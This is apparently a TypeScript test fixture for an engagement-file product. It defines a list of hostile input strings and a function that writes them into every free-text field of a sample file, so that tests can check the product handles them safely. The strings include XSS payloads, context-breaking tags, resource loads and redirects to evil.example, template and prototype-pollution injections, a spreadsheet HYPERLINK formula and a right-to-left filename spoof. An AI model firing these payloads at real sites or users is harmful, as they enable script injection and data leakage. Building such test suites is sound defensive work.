import { readFileSync } from 'node:fs';
import { kindSpec, type Kind } from '#shared/domain/model/kinds.ts';

/** Texts that run, load or lead away where somebody takes them for more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=window.pwned=1>',
  '<svg><script>window.pwned=1</script></svg>',
  '<iframe src="javascript:parent.pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">press</a>',
  '[press](javascript:window.pwned=1)',
  '![x](https://evil.example/y.png)',
  'javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  '"><script>window.pwned=1</script>',
  `'><img src=x onerror=window.pwned=1>`,
  '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
  '</title><script>window.pwned=1</script>',
  '</textarea><script>window.pwned=1</script>',
  '</style><script>window.pwned=1</script>',
  '--><script>window.pwned=1</script>',
  ']]><script>window.pwned=1</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example/><button>Save</button></form>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<video src=https://evil.example/x.mp4 onerror=window.pwned=1></video>',
  '<details open ontoggle=window.pwned=1>x</details>',
  '<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>',
  '{{constructor.constructor("window.pwned=1")()}}',
  '${window.pwned=1}',
  '__proto__',
  'constructor',
  '=HYPERLINK("https://evil.example/","press")',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '\u202Etxt.exe',
  '<ScRiPt\u00A0>window.pwned=1</sCrIpT>',
  'https://evil.example/a@b',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
];

/** A client's name as bad as a name can be. */
export const HOSTILE_CLIENT = `${HOSTILE_TEXTS[1] ?? ''} & Söhne`;

interface FrozenFile {
  readonly engagementId: string;
  readonly records: readonly { readonly kind: Kind; readonly body: Record<string, unknown> }[];
}

// Texts whose form the product reads: another one would be an empty place, not a hostile text.
const READ = /colour|currency|language|quarter|At$|secondsByStep|content|format|templateMark|copyOf|mark$/i;

/** An engagement file with a record of every kind, in which every free text is hostile and carries a mark. */
export function hostileFile(mark: string): { readonly text: string; readonly texts: readonly string[] } {
  const file = JSON.parse(
    readFileSync(new URL('../fixtures/engagement-v7.json', import.meta.url), 'utf8'),
  ) as FrozenFile;
  const texts: string[] = [];
  const next = (): string => {
    const text = `${HOSTILE_TEXTS[texts.length % HOSTILE_TEXTS.length] ?? ''} ${mark}`;
    texts.push(text);
    return text;
  };
  const records = file.records.map((record) => {
    const { fields } = kindSpec(record.kind);
    const body = Object.fromEntries(
      Object.entries(record.body).map(([field, value]) => {
        const spec = fields[field];
        const isFree = spec?.type === 'text' && typeof value === 'string' && value !== '' && !READ.test(field);
        // The template's file did not come along; documents do without it.
        if (record.kind === 'brand' && field.startsWith('template')) return [field, ''];
        if (record.kind === 'engagement' && field === 'client') return [field, `${HOSTILE_CLIENT} ${mark}`];
        // Frozen copies of records are read as what they are.
        return [field, isFree && record.kind !== 'frozenRecord' && spec.multiline !== undefined ? next() : value];
      }),
    );
    return { ...record, body };
  });
  return { text: JSON.stringify({ ...file, records }), texts };
}
